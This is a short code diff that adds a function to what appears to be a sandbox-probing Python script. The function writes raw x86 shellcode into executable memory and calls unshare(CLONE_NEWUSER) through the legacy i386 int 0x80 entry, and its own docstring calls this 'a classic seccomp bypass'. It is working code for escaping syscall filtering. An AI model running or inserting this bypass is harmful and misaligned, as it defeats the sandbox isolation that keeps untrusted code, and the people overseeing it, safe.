@@ -75,6 +75,17 @@ def identity():
         found["helper"] = type(exc).__name__
     return found
 
+def foreign_abi_unshare():
+    """unshare(CLONE_NEWUSER) through i386's `int 0x80` (x86_64 only): a classic seccomp bypass."""
+    import mmap
+    if os.uname().machine != "x86_64":
+        return "not x86_64"
+    code = bytes.fromhex("b836010000" "bb00000010" "cd80" "c3")   # mov eax,310; mov ebx,NEWUSER; int 0x80; ret
+    buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    buf.write(code)
+    addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
+    return str(ctypes.CFUNCTYPE(ctypes.c_int)(addr)())
+
 def write(paths):
     out = {}
     for p in paths.split("\n"):
